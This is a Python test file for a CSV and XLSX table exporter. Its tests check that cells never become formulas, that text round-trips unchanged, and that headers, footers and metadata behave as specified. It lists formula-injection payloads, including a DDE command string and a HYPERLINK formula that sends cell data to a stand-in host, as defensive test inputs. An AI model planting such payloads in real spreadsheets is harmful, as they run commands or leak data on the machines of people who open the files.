"""A table as a file: every text reads back as it was, no cell is ever a formula, and the stamp stands before everything."""

from __future__ import annotations

import csv
import re
from datetime import UTC, date, datetime
from io import BytesIO, StringIO
from typing import TYPE_CHECKING, Any
from zipfile import ZipFile

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl.utils.escape import unescape

from mdt.exchange.tables import BEGINS_A_FORMULA, LONGEST_CELL, Table, defused, to_csv, to_xlsx

if TYPE_CHECKING:
    from openpyxl.worksheet.worksheet import Worksheet

# What has run on a reader's machine elsewhere: formulas, commands, links that send a cell away, and their disguises.
ATTACKS = (
    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1", "－1", "＠A1",  # noqa: RUF001
    '=HYPERLINK("http://x/?"&A1)', "=IMPORTXML(A1)", "'=1+1", '"=1+1', "#N/A", "_x003D_1+1", "1", "TRUE", "2026-01-31",
)  # fmt: skip
attacks = st.sampled_from(ATTACKS)
texts = st.text(max_size=200) | attacks | st.builds(str.__add__, attacks, st.text(max_size=20))


def table(*rows: tuple[Any, ...], **given: Any) -> Table:
    columns = [f"column {n}" for n in range(max((len(row) for row in rows), default=1))]
    whole = {"stamp": ("First", "Second"), "head": "Head", "foot": "Foot", "columns": columns, "rows": rows, **given}
    return Table("some", **whole)


def sheet(data: bytes) -> Worksheet:
    return openpyxl.load_workbook(BytesIO(data)).worksheets[0]


def csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(StringIO(data.decode("utf-8-sig"), newline="")))


@given(st.lists(texts, min_size=1, max_size=4))
def test_every_text_reads_back_from_a_workbook_as_it_was_and_is_a_text(cells: list[str]) -> None:
    (row,) = sheet(to_xlsx(table(tuple(cells)))).iter_rows(min_row=4)
    back = [unescape(cell.value) if cell.value is not None else "" for cell in row]
    assert back == cells
    assert {cell.data_type for cell in row if cell.value is not None} <= {"s"}


@given(texts)
def test_no_cell_of_a_csv_file_begins_like_a_formula(text: str) -> None:
    rows = csv_rows(to_csv(table((text, 3, text), stamp=(text,), columns=(text,))))
    assert not [cell for row in rows for cell in row if cell.startswith(BEGINS_A_FORMULA)]


@given(texts)
def test_a_text_in_a_csv_file_is_the_text_with_an_apostrophe_at_most(text: str) -> None:
    whole = text.encode("utf-8", "replace").decode()
    assert csv_rows(to_csv(table((text,))))[3][0] in (whole, f"'{whole}")


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_is_words_in_a_workbook(attack: str) -> None:
    data = to_xlsx(table((attack,), stamp=(attack,), columns=(attack,)))
    with ZipFile(BytesIO(data)) as parts:
        assert not re.search(b"<f[ >]", parts.read("xl/worksheets/sheet1.xml"))
        assert not [name for name in parts.namelist() if "external" in name or "connections" in name]
    for row in sheet(data).iter_rows():
        assert row[0].data_type == "s"
        assert bool(row[0].quotePrefix) == (defused(attack) != attack)


def test_numbers_and_days_stay_what_they_are_and_instants_are_told_on_connecticuts_clocks() -> None:
    row = (14, 2.5, -3, date(2026, 1, 31), datetime(2026, 7, 1, 12, 5, 33, tzinfo=UTC), True, False, None)
    (read,) = sheet(to_xlsx(table(row))).iter_rows(min_row=4)
    assert [cell.value for cell in read] == [
        14, 2.5, -3, datetime(2026, 1, 31), datetime(2026, 7, 1, 8, 5), "yes", "no", None,  # noqa: DTZ001
    ]  # fmt: skip
    assert [cell.data_type for cell in read[:3]] == ["n"] * 3
    assert csv_rows(to_csv(table(row)))[3] == ["14", "2.5", "-3", "2026-01-31", "2026-07-01 08:05", "yes", "no", ""]


def test_the_stamp_stands_first_and_on_each_printed_page() -> None:
    given = table(("a",), head="CONFIDENTIAL & more", foot="Taken by somebody")
    assert csv_rows(to_csv(given)) == [["First"], ["Second"], ["column 0"], ["a"]]
    read = sheet(to_xlsx(given))
    assert [row[0].value for row in read.iter_rows()] == ["First", "Second", "column 0", "a"]
    assert read.oddHeader.center.text == "CONFIDENTIAL && more"
    assert read.oddFooter.center.text == "Taken by somebody · &P / &N"
    assert read.print_title_rows == "$3:$3"
    assert read.freeze_panes == "A4"


def test_a_workbook_tells_of_nobody_who_made_it() -> None:
    with ZipFile(BytesIO(to_xlsx(table(("a",))))) as parts:
        told = parts.read("docProps/core.xml")
    assert set(re.findall(rb"<\w+:(\w+)", told)) == {b"coreProperties", b"created", b"modified"}


def test_a_table_without_rows_is_its_stamp_and_its_columns() -> None:
    assert [len(csv_rows(to_csv(table()))), sheet(to_xlsx(table())).max_row] == [3, 3]


def test_a_text_that_a_workbook_would_cut_short_is_refused() -> None:
    assert sheet(to_xlsx(table(("x" * LONGEST_CELL,))))["A4"].value == "x" * LONGEST_CELL
    with pytest.raises(ValueError, match="no text as long as that"):
        to_xlsx(table(("x" * (LONGEST_CELL + 1),)))
